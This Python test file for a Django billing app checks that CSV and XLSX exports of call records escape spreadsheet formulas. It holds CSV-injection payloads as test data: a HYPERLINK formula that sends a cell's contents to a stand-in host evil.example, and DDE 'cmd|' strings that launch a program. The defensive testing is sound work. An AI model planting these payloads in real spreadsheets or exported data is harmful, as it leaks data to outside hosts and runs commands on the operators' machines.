"""R12.2: what the system exports (calls as CSV and XLSX, the import's rejected rows) cannot
become a formula in the operator's spreadsheet (CSV injection)."""
import csv
import io
from datetime import UTC, datetime

import openpyxl
import pytest
from django.core.management import call_command

from tariffs.spreadsheets import cell_text
from tests.billing.test_calls_page import make_call, viewer
from tests.factories import SubscriberFactory

NAME = '=HYPERLINK("http://evil.example/?x="&B2,"Click me")'
CALLER = "=1+cmd|' /C calc'!A0"


@pytest.mark.parametrize(("value", "shown"), [
    (NAME, "'" + NAME),
    (CALLER, "'" + CALLER),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    # plain numbers run nothing: a number in E.164, a negative amount, stay as they are
    ("+380441234567", "+380441234567"),
    ("-1.20", "-1.20"),
    ("Ivan Petrenko", "Ivan Petrenko"),
    ("", ""),
    (42, 42),
    (None, None),
])
def test_text_that_would_start_a_formula_is_escaped(value, shown):
    # when a value goes into a spreadsheet cell
    # then a text that could start a formula gets a leading apostrophe, nothing else changes
    assert cell_text(value) == shown


@pytest.fixture
def hostile_call(site):
    """A call of a subscriber named like a formula, to a "number" that is one."""
    subscriber = SubscriberFactory(full_name=NAME)
    return make_call(device=site.device, key="evil", start=datetime(2024, 6, 17, tzinfo=UTC),
                     subscriber=subscriber, dialled=CALLER, extension="+cmd|' /C calc'!A0")


def test_the_calls_csv_of_the_page_escapes_formulas(client, django_user_model, hostile_call):
    # given an operator who may see the calls
    viewer(client, django_user_model, "view_call")
    # when the calls are exported from the page
    response = client.get("/calls/", {"export": "csv"})
    text = b"".join(response.streaming_content).decode()
    # then the name and the numbers are text, not formulas
    (row,) = csv.DictReader(io.StringIO(text))
    assert (row["subscriber"], row["dialled"], row["extension"]) == (
        "'" + NAME, "'" + CALLER, "'+cmd|' /C calc'!A0")


def test_the_calls_xlsx_of_the_page_escapes_formulas(client, django_user_model, hostile_call):
    # given an operator who may see the calls
    viewer(client, django_user_model, "view_call")
    # when the calls are exported from the page as XLSX
    response = client.get("/calls/", {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    # then the name and the numbers are text cells, not formulas, whose text is escaped
    header = [cell.value for cell in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    for name, value in (("subscriber", NAME), ("dialled", CALLER),
                        ("extension", "+cmd|' /C calc'!A0")):
        assert (cells[name].data_type, cells[name].value) == ("s", "'" + value)
    # and the cost of the call (none: not rated) and its duration are no text
    assert cells["cost"].value is None and cells["duration"].data_type == "n"


def test_export_calls_escapes_formulas_in_csv_and_xlsx(hostile_call, tmp_path):
    # when the calls are exported by the command, as CSV and as XLSX
    for fmt in ("csv", "xlsx"):
        call_command("export_calls", "--from", "2024-06-01", "--to", "2024-06-30",
                     "--format", fmt, "--output", str(tmp_path / f"calls.{fmt}"))
    # then the CSV holds them escaped
    (row,) = csv.DictReader(io.StringIO((tmp_path / "calls.csv").read_text()))
    assert (row["subscriber"], row["dialled"]) == ("'" + NAME, "'" + CALLER)
    # and the workbook holds them as text cells, not formulas
    sheet = openpyxl.load_workbook(tmp_path / "calls.xlsx").active
    header = [cell.value for cell in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    for name, value in (("subscriber", NAME), ("dialled", CALLER)):
        assert cells[name].data_type == "s"
        assert cells[name].value == "'" + value
